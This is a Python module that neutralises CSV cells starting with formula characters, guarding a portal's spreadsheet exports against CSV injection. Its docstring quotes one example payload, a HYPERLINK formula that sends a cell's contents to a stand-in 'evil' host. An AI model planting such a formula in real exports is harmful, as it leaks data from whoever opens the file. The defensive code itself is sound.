"""CSV for spreadsheets: every CSV the portal produces goes through `csv_writer`.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (CSV injection): a clerk's free text such as a reveal
purpose ``=HYPERLINK("http://evil/?"&A1,"ok")`` would run on the supervisor's machine when the
export is opened. Following OWASP's guidance such a cell gets a leading ``'``, which the
spreadsheet shows as text and does not evaluate; the value stays readable. Numbers the portal
writes itself (ids, sequence numbers) are passed as numbers and left alone, so a negative
number is not altered.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet reads it as text, never as a formula."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)  # what csv would write for any other object (dates, dicts, lazy text)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(stream, **kwargs)
